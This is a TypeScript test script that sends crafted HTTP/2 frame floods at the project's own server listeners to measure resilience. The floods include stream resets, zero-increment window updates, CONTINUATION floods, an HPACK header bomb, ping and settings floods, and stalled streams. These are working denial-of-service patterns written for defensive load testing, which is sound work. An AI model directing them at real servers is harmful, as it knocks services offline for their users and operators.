/**
 * Sends frames of HTTP/2 that cost a server more than their client. flood.ts says what is measured, and which options
 * there are. The defaults take less than five minutes.
 *
 *     node test/long/attacks/http2.ts [--ways resets,pings]
 */
import { block, FLAG, frame, START, TYPE, toHead, uint32 } from '../../support/frames.ts'
import { BURST_BYTES, type Burst, runFlood, type Way } from './flood.ts'

/** As many as a server allows at a time. */
const STREAMS = 100
const MAX_STREAM = 2 ** 31 - 1
const { endHeaders, endStream } = FLAG

const open = (row, stream: number, flags = endHeaders | endStream) =>
  frame(TYPE.headers, flags, stream, block(toHead(row.get)))
/** A request whose body does not come. */
const openPost = (row, stream: number) =>
  frame(TYPE.headers, endHeaders, stream, block([[':method', 'POST'], ...toHead(row.post).slice(1)]))
const reset = (stream: number) => frame(TYPE.reset, 0, stream, uint32(8))
/** A window that grows by nothing is an error, after which the server resets the stream. */
const growByNothing = (stream: number) => frame(TYPE.window, 0, stream, uint32(0))
const grow = (stream: number) => frame(TYPE.window, 0, stream, uint32(1))
const startWithWindow = (bytes: number) =>
  Buffer.concat([START, frame(TYPE.settings, 0, 0, Buffer.concat([Buffer.of(0, 4), uint32(bytes)]))])

/** A header of 4000 bytes that the table of the connection keeps, and then one byte for each copy of it. */
const BOMB = Buffer.concat([
  block(toHead('/')),
  Buffer.of(0x40, 1, 0x78, 127, 0x81, 0x1e),
  Buffer.alloc(4000, 'a'),
  Buffer.alloc(12_000, 0xbe),
])

/** The numbers of streams that clients may use, in order. */
function* numberStreams(from = 1): Generator<number> {
  for (let stream = from; stream <= MAX_STREAM; stream += 2) yield stream
}

/** A new stream again and again. */
function* useStreams(toBytes: (stream: number) => Buffer): Generator<Burst> {
  yield { bytes: START, requests: 0 }
  const streams = numberStreams()
  for (;;) {
    const parts: Buffer[] = []
    for (let bytes = 0; bytes < BURST_BYTES; bytes += parts.at(-1)?.length ?? 0)
      parts.push(toBytes(streams.next().value ?? 1))
    yield { bytes: Buffer.concat(parts), requests: parts.length }
  }
}

/** Some bytes first, and then the same ones again and again. */
function* repeat(first: readonly Buffer[], again: Buffer, start = START): Generator<Burst> {
  yield { bytes: Buffer.concat([start, ...first]), requests: first.length }
  const requests = Math.ceil(BURST_BYTES / again.length)
  const bytes = Buffer.alloc(requests * again.length, again)
  for (;;) yield { bytes, requests }
}

const all = <T>(toValue: (stream: number) => T): T[] => [...numberStreams().take(STREAMS)].map(toValue)

/** As many streams as allowed, and then nothing. */
function* hold(start: Buffer, toBytes: (stream: number) => Buffer): Generator<Burst> {
  yield { bytes: Buffer.concat([start, ...all(toBytes)]), requests: STREAMS }
}

const PING = frame(TYPE.ping, 0, 0, Buffer.alloc(8))

const WAYS: Readonly<Record<string, Way>> = {
  requests: { bursts: (row) => useStreams((stream) => open(row, stream)) },
  unread: { bursts: (row) => useStreams((stream) => open(row, stream)), ignoresReplies: true },
  resets: { bursts: (row) => useStreams((stream) => Buffer.concat([open(row, stream), reset(stream)])) },
  provoked: {
    bursts: (row) => useStreams((stream) => Buffer.concat([openPost(row, stream), growByNothing(stream)])),
  },
  continued: { bursts: (row) => repeat([open(row, 1, endStream)], frame(TYPE.more, 0, 1, block([['x-a', 'b']]))) },
  bombs: { bursts: () => useStreams((stream) => frame(TYPE.headers, endHeaders | endStream, stream, BOMB)) },
  settings: { bursts: () => repeat([], frame(TYPE.settings, 0, 0)), ignoresReplies: true },
  pings: { bursts: () => repeat([], PING), ignoresReplies: true },
  'pings-read': { bursts: () => repeat([], PING) },
  empty: { bursts: (row) => repeat([openPost(row, 1)], frame(TYPE.data, 0, 1)) },
  windows: { bursts: (row) => hold(startWithWindow(0), (stream) => open(row, stream)) },
  bytes: {
    bursts: (row) =>
      repeat(
        all((stream) => open(row, stream)),
        Buffer.concat(all(grow)),
        startWithWindow(1),
      ),
  },
  idle: { bursts: (row) => hold(START, (stream) => openPost(row, stream)) },
  reconnect: { bursts: (row) => hold(START, (stream) => openPost(row, stream)), reconnects: true },
}

await runFlood({ ways: WAYS, listeners: ['document', 'document-tls', 'multiModel', 'admin', 'bare'], protocol: 'h2' })
